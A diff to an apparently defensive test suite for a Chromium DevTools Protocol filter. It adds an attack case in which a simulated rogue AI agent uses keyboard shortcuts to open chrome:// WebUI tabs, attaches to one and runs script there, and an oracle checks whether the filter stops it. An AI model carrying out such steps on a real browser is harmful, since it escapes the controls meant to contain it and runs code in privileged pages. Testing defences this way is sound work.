@@ -10,7 +10,7 @@ import type { Attack, AttackContext, AttackOutcome } from '../types.ts'
 import { waitUntil } from '../../util/wait.ts'
 import { assertLocal, browserWsUrl, cdpConnect, closePage, evaluate, navigate, openPage, reason, type CdpConnection, type PageHandle } from '../cdp-client.ts'
 import { asRogue, browserRestarted, nonce, plantCookie, plantSecretFile } from './cdp.ts'
-import { closeNew, CTRL_H, frontendChannel, newTarget, openDevtoolsByKey, press, targets, type FrontendChannel } from './accelerators.ts'
+import { closeNew, CTRL_H, CTRL_N, CTRL_SHIFT_N, CTRL_T, frontendChannel, newTarget, openDevtoolsByKey, press, targets, type FrontendChannel } from './accelerators.ts'
 import { runPage } from './victim-browser.ts'
 
 /** "ok" or the refusal, for evidence. */
@@ -367,6 +367,40 @@ export const SIDE_EFFECT_ATTACKS: Attack[] = [
         }
         const seen = await direct(ctx, async v => (await targets(v)).some(t => t.title === mark))
         return { harm: seen, evidence: `${notes.join('; ')}; oracle: ${seen ? 'a chrome:// page carries the attacker\'s title' : 'no chrome:// page touched'}` }
+      })
+    },
+  },
+  {
+    id: 'accelerator-webui-tabs',
+    category: 'side-effects',
+    description: 'A rogue agent presses Ctrl+T, Ctrl+N and Ctrl+Shift+N (incognito) on a page: Chromium opens chrome:// new-tab pages (WebUI) in new tabs and windows; the agent attaches to one and runs code in it.',
+    stoppedBy: ['cdp-filter'],
+    attacker: 'rogue-agent',
+    async run (ctx) {
+      const mark = nonce('newtab')
+      return await asRogue(ctx, async c => {
+        const before = new Set((await targets(c)).map(t => t.targetId))
+        const notes: string[] = []
+        let page: PageHandle | undefined
+        try {
+          page = await openPage(c)
+          await navigate(c, page.sessionId, `${ctx.fixtures.site}/`)
+          for (const chord of [CTRL_T, CTRL_N, CTRL_SHIFT_N]) {
+            const seen = new Set((await targets(c)).map(t => t.targetId))
+            const r = await attempt(chord.label, async () => { await press(c, (page as PageHandle).sessionId, chord) })
+            const t = r.ok ? await newTarget(c, seen, x => x.type === 'page' && x.url.startsWith('chrome://'), 4000) : undefined
+            if (t === undefined) { notes.push(r.ok ? `${chord.label}: no chrome:// tab` : r.note); continue }
+            const ran = await attempt(`${chord.label} opened ${t.url}; attach`, async () => {
+              const { sessionId } = await c.send<{ sessionId: string }>('Target.attachToTarget', { targetId: t.targetId, flatten: true }, undefined, 5000)
+              return await evaluate<string>(c, sessionId, `document.title = ${JSON.stringify(mark)}; location.href`, { timeoutMs: 5000 })
+            })
+            notes.push(ran.ok ? `${chord.label}: code ran in ${ran.value}` : ran.note)
+          }
+        } catch (err) { notes.push(reason(err)) }
+        const harm = await direct(ctx, async v => (await targets(v)).some(t => t.title === mark && t.url.startsWith('chrome://')))
+        await closePage(c, page)
+        await closeNew(c, before)
+        return { harm, evidence: `${notes.join('; ')}; oracle: ${harm ? 'a chrome:// tab carries the attacker\'s title' : 'no chrome:// tab touched'}` }
       })
     },
   },
